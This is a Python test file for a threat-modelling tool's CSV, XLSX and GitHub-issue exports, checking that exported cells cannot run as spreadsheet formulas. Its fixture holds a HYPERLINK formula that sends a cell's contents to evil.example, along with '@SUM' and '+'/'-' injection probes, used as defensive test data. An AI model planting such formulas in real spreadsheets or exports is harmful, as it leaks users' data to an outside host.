"""Pairs exported for where work gets tracked: CSV and XLSX read back with real parsers (csv,
openpyxl) against the assessment's own pairs, GitHub issue bodies with stable markers, and
hostile titles that a spreadsheet must show as text, never run."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys

import pytest

from threatgraph import pipeline
from threatgraph.config import load_config
from threatgraph.render import tracking

from .conftest import REPO

FORMULA_TITLE = "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")"


@pytest.fixture
def hostile(project):
    project.write("threats/main.yaml", f"""
        threats:
          - id: TH-CSV
            title: '{FORMULA_TITLE.replace("'", "''")}'
            description: "@SUM(1+1) and a bell \\a"
            stride: [tampering]
            severity: high
            applies_to:
              - flows: {{protocol: sql}}
            mitigations: [M-NONE]
          - id: TH-PLUS
            title: "+1 then -2"
            stride: [spoofing]
            severity: low
            applies_to:
              - elements: {{id: user}}
        """)
    project.write("mitigations/main.yaml", """
        mitigations:
          - id: M-NONE
            title: "-not yet"
            status: planned
        """)
    return project


def _pairs(root):
    a = pipeline.check(load_config(root), use_evidence=False)
    return a, sorted((p.threat, p.target.id, p.status) for p in a.pairs)


def test_csv_has_one_row_per_pair_and_no_formula(hostile, run):
    a, want = _pairs(hostile.root)
    r = run("export", "--format", "csv", cwd=hostile.root)
    assert r.code == 0
    rows = list(csv.DictReader(io.StringIO(r.out, newline="")))
    assert sorted((row["threat"], row["target"], row["status"]) for row in rows) == want
    assert all(not v.startswith(("=", "+", "-", "@")) for row in rows for v in row.values())
    titles = {row["title"] for row in rows}
    assert "'" + FORMULA_TITLE in titles and "'+1 then -2" in titles


def test_xlsx_reads_back_as_the_same_rows_all_text(hostile, run, tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    out = tmp_path / "pairs.xlsx"
    assert run("export", "--format", "xlsx", "--out", str(out), cwd=hostile.root).code == 0
    csv_rows = list(csv.reader(io.StringIO(run("export", "--format", "csv", cwd=hostile.root).out, newline="")))
    wb = openpyxl.load_workbook(out)
    sheet = wb["pairs"]
    cells = [[c for c in row] for row in sheet.iter_rows()]
    assert [[c.value or "" for c in row] for row in cells] == csv_rows
    assert {c.data_type for row in cells[1:] for c in row if c.value} == {"s"}  # nothing is a formula
    assert sheet.freeze_panes == "A2" and wb["summary"]["A1"].value == "pairs"


def test_xlsx_is_byte_identical_in_any_time_zone_and_hash_seed(tmp_path):
    outs = []
    for tz, seed in (("UTC", "1"), ("Asia/Kolkata", "2")):
        out = tmp_path / f"{tz.replace('/', '-')}.xlsx"
        env = {**os.environ, "TZ": tz, "PYTHONHASHSEED": seed}
        subprocess.run([sys.executable, "-m", "threatgraph", "export", "--format", "xlsx", "--out", str(out),
                        "--no-evidence"], cwd=REPO, env=env, check=True, capture_output=True, timeout=300)
        outs.append(out.read_bytes())
    assert outs[0] == outs[1] and outs[0][:2] == b"PK"


def test_github_issues_one_per_open_pair_with_a_stable_marker(hostile, run):
    a, _ = _pairs(hostile.root)
    issues = json.loads(run("export", "--format", "github-issues", cwd=hostile.root).out)
    open_pairs = {(p.threat, p.target.id) for p in a.pairs
                  if p.status in ("unmitigated", "accepted-expired", "partially-mitigated")}
    assert {(i["threat"], i["target"]) for i in issues} == open_pairs and len(issues) == len(open_pairs)
    assert len({i["fingerprint"] for i in issues}) == len(issues)
    for i in issues:
        assert i["body"].splitlines()[0] == i["marker"] == f"<!-- threatgraph:pair {i['fingerprint']} -->"
        assert "\a" not in i["body"] and "\a" not in i["title"]
    # the marker names the pair, not its place in the list: a changed catalog keeps it
    again = json.loads(run("export", "--format", "github-issues", cwd=hostile.root).out)
    assert [i["fingerprint"] for i in again] == [i["fingerprint"] for i in issues]
    p = next(p for p in a.pairs if (p.threat, p.target.id) == (issues[0]["threat"], issues[0]["target"]))
    assert tracking.fingerprint(p) == issues[0]["fingerprint"]


def test_the_firewall_exports_every_pair():
    a = pipeline.check(load_config(REPO), use_evidence=False)
    rows = list(csv.DictReader(io.StringIO(tracking.render_csv(a), newline="")))
    assert len(rows) == len(a.pairs) > 200
    first = rows[0]
    assert first["residual_risk"] == max((r["residual_risk"] for r in rows),
                                         key=["none", "info", "low", "medium", "high", "critical"].index)
